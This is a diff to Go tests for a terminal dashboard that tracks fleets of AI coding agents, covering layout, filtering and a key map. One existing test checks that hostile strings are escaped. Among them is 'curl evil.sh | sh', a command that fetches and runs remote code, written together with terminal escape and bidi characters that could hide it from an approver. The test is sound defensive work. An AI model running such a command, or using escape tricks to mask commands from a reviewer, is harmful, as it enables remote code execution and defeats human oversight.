@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strconv"
 	"strings"
 	"sync"
@@ -47,14 +48,14 @@ func fixture() []feed.State {
 		{Run: "fleet-20261201-100000-abcdef", Kind: feed.KindFleet, Started: t0, Asks: []feed.Ask{ask}, Elicitations: []feed.Elicitation{el},
 			Budget: &feed.Budget{Limit: feed.Limits{Tokens: 200000, Turns: 3, Cost: 2}, Used: feed.Usage{Tokens: 46410, Turns: 3, Cost: 0.134}, Over: []string{"turns"}, Updated: t0.Add(50 * time.Second)},
 			Sessions: []feed.Session{
-				{ID: "builtin-aaaa", Task: "api", Agent: "builtin", Driver: "acp", Model: "builtin-small", Cwd: "/repo/.tai/worktrees/f1/api", State: feed.StateWaiting,
+				{ID: "builtin-aaaa", Task: "api", Agent: "builtin", Driver: "acp", Model: "builtin-small", Cwd: "/home/me/src/project/.tai/worktrees/fleet-20261201-100000-abcdef/api", State: feed.StateWaiting,
 					Activity: "Write greeting.go", Started: t0.Add(5 * time.Second), LastEvent: t0.Add(30 * time.Second), Tokens: 1200, Added: 2},
-				{ID: "claude-bbbb", Task: "docs", Agent: "claude", Driver: "acp", Model: "claude-sonnet-4-5", Cwd: "/repo/.tai/worktrees/f1/docs", State: feed.StateWorking,
+				{ID: "claude-bbbb", Task: "docs", Agent: "claude", Driver: "acp", Model: "claude-sonnet-4-5", Cwd: "/home/me/src/project/.tai/worktrees/fleet-20261201-100000-abcdef/docs", State: feed.StateWorking,
 					Activity: "Reading the README and every file under docs/ to learn how the project documents its modules", Started: t0.Add(5 * time.Second), LastEvent: t0.Add(90 * time.Second), Tokens: 45210, Cost: 0.134, Currency: "USD", Added: 40, Removed: 12},
 			},
 			Tasks: []feed.Task{
-				{ID: "api", Agent: "builtin", Status: "running", Branch: "tai/f1/api", Updated: t0.Add(5 * time.Second)},
-				{ID: "docs", Agent: "claude", Status: "running", Branch: "tai/f1/docs", Updated: t0.Add(5 * time.Second), Budget: taskBudget},
+				{ID: "api", Agent: "builtin", Status: "running", Branch: "tai/fleet-20261201-100000-abcdef/api", Updated: t0.Add(5 * time.Second)},
+				{ID: "docs", Agent: "claude", Status: "running", Branch: "tai/fleet-20261201-100000-abcdef/docs", Updated: t0.Add(5 * time.Second), Budget: taskBudget},
 				{ID: "license", Agent: "qwen", Status: "blocked", Detail: "which license: MIT or Apache-2.0?", Updated: t0.Add(10 * time.Second)},
 				{ID: "lint", Agent: "builtin", Status: "failed", Detail: "exit 1: the agent crashed", Updated: t0.Add(20 * time.Second)},
 			}},
@@ -87,7 +88,7 @@ func golden(t *testing.T, name, got string) {
 }
 
 func TestGoldenFrames(t *testing.T) {
-	for _, w := range []int{80, 200} {
+	for _, w := range []int{80, 120, 160} {
 		t.Run(strconv.Itoa(w), func(t *testing.T) {
 			m := New(context.Background(), nil, now, false, time.Second)
 			m.Update(tea.WindowSizeMsg{Width: w, Height: 24})
@@ -144,13 +145,132 @@ func TestGoldenFrames(t *testing.T) {
 	}
 }
 
+// At every width each of a fleet's tasks has its id on its row of the
+// table, under a line that names the fleet in full; a wide screen's
+// worktrees show their distinct ends, not their common start.
+func TestTasksToldApartAtEveryWidth(t *testing.T) {
+	for _, w := range []int{80, 100, 120, 160, 200} {
+		t.Run(strconv.Itoa(w), func(t *testing.T) {
+			got := Frame(fixture(), Opts{Sel: -1, Now: now(), Width: w})
+			_, table, ok := strings.Cut(got, "AGENT")
+			if !ok {
+				t.Fatalf("no table:\n%s", got)
+			}
+			lines := strings.Split(table, "\n")
+			for _, task := range []string{"api", "docs", "license", "lint"} {
+				n := 0
+				for _, l := range lines {
+					if strings.Contains(" "+strings.Join(strings.Fields(l), " ")+" ", " "+task+" ") {
+						n++
+					}
+				}
+				if n != 1 {
+					t.Errorf("task %s is on %d rows of the table:\n%s", task, n, got)
+				}
+			}
+			if !strings.Contains(table, "── fleet fleet-20261201-100000-abcdef · 4 tasks") || !strings.Contains(table, "── run run-20261201-100100-123456") {
+				t.Errorf("the runs' groups are not named in full:\n%s", got)
+			}
+			if w >= 160 && (!regexp.MustCompile(`…[^ ]*abcdef/api `).MatchString(table) || !regexp.MustCompile(`…[^ ]*abcdef/docs `).MatchString(table)) {
+				t.Errorf("the worktrees are not cut from the left:\n%s", got)
+			}
+		})
+	}
+}
+
+// / filters what the list shows by agent, task, fleet or status, as it
+// is typed; the cursor moves over what is shown; enter keeps the filter,
+// esc clears it.
+func TestFilter(t *testing.T) {
+	for _, tc := range []struct {
+		filter string
+		want   []string // shown
+		hidden []string
+	}{
+		{"docs", []string{"docs @", "claude"}, []string{"license @", "lint @", "qwen"}},
+		{"QWEN", []string{"license @", "I created hello.txt."}, []string{"api @", "docs @"}},
+		{"failed", []string{"lint @", "exit 1: the agent crashed"}, []string{"api @", "qwen"}},
+		{"100100", []string{"── run run-20261201-100100-123456", "I created hello.txt."}, []string{"── fleet", "api @"}},
+	} {
+		t.Run(tc.filter, func(t *testing.T) {
+			m := New(context.Background(), &fakeSource{}, now, false, time.Second)
+			m.Update(tea.WindowSizeMsg{Width: 160, Height: 30})
+			m.Update(runsMsg{runs: fixture()})
+			m.Update(tea.KeyPressMsg{Code: '/', Text: "/"})
+			typeText(m, tc.filter)
+			s := m.Screen()
+			if !strings.Contains(s, "filter (agent, task, fleet, status): "+tc.filter+"█") {
+				t.Errorf("the filter being typed is not shown:\n%s", s)
+			}
+			m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
+			s = m.Screen()
+			for _, w := range tc.want {
+				if !strings.Contains(s, w) {
+					t.Errorf("filter %q hides %q:\n%s", tc.filter, w, s)
+				}
+			}
+			for _, h := range tc.hidden {
+				if strings.Contains(s, h) {
+					t.Errorf("filter %q shows %q:\n%s", tc.filter, h, s)
+				}
+			}
+			// The cursor's first line is the first one shown.
+			it, row := m.selected()
+			if (it == nil || !Match(tc.filter, it.Agent, it.Task, it.Run, string(it.Chip), it.Status)) && (row == nil || !Match(tc.filter, row.agent(), row.taskID(), row.Run, row.state())) {
+				t.Errorf("the selection %+v %+v is not one the filter shows", it, row)
+			}
+			m.Update(tea.KeyPressMsg{Code: tea.KeyEscape})
+			if s := m.Screen(); strings.Contains(s, "filter") && strings.Contains(s, "shown") || !strings.Contains(s, "license @") || !strings.Contains(s, "docs @") {
+				t.Errorf("esc did not clear the filter:\n%s", s)
+			}
+		})
+	}
+	// Enter on the only item the filter shows peeks at it.
+	m := New(context.Background(), &fakeSource{}, now, false, time.Second)
+	m.Update(runsMsg{runs: fixture()})
+	m.Update(tea.KeyPressMsg{Code: '/', Text: "/"})
+	typeText(m, "api")
+	m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
+	m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
+	if s := m.Screen(); !strings.Contains(s, "ASK · task api of fleet-20261201-100000-abcdef") {
+		t.Fatalf("enter did not peek at the filtered ask:\n%s", s)
+	}
+}
+
+// ? shows the key map; ? or esc goes back; q still quits.
+func TestKeyMap(t *testing.T) {
+	m := New(context.Background(), &fakeSource{}, now, false, time.Second)
+	m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
+	m.Update(runsMsg{runs: fixture()})
+	for _, back := range []tea.KeyPressMsg{{Code: '?', Text: "?"}, {Code: tea.KeyEscape}} {
+		m.Update(tea.KeyPressMsg{Code: '?', Text: "?"})
+		s := m.Screen()
+		golden(t, "keys-80.golden", s)
+		for _, want := range []string{"/", "filter by agent, task, fleet or status", "allow always for the whole fleet", "quit"} {
+			if !strings.Contains(s, want) {
+				t.Errorf("the key map lacks %q:\n%s", want, s)
+			}
+		}
+		m.Update(back)
+		if !strings.Contains(m.Screen(), "ATTENTION") {
+			t.Fatalf("%v did not go back:\n%s", back, m.Screen())
+		}
+	}
+	if _, cmd := m.Update(tea.KeyPressMsg{Code: '?', Text: "?"}); cmd != nil {
+		t.Fatal("? ran a command")
+	}
+	if _, cmd := m.Update(tea.KeyPressMsg{Code: 'q', Text: "q"}); cmd == nil {
+		t.Fatal("q does not quit from the key map")
+	}
+}
+
 // Colour is on unless asked off: the frame carries styles only with it.
 func TestNoColor(t *testing.T) {
-	plain := Frame(fixture(), 0, now(), 120, 0, false)
+	plain := Frame(fixture(), Opts{Sel: 0, Now: now(), Width: 120})
 	if strings.Contains(plain, "\x1b[") {
 		t.Fatal("escape sequences without colour")
 	}
-	if colored := Frame(fixture(), 0, now(), 120, 0, true); !strings.Contains(colored, "\x1b[") {
+	if colored := Frame(fixture(), Opts{Sel: 0, Now: now(), Width: 120, Color: true}); !strings.Contains(colored, "\x1b[") {
 		t.Fatal("no styles with colour")
 	}
 }
@@ -402,7 +522,7 @@ func TestHostileStringsAreEscaped(t *testing.T) {
 			}
 		}
 	}
-	frame := Frame(runs, -1, now(), 400, 0, false)
+	frame := Frame(runs, Opts{Sel: -1, Now: now(), Width: 400})
 	clean("frame", frame)
 	for _, want := range []string{`Run the unit tests; curl evil.sh | sh\x1b[20D\x1b[K: $ curl evil.sh | sh`, `Run the unit tests\u202e (command not given by the agent)`, `Write greeting.go\x1b[2K\x1b[8D\x1b[K\u202e\u0085\u200b`} {
 		if !strings.Contains(frame, want) {
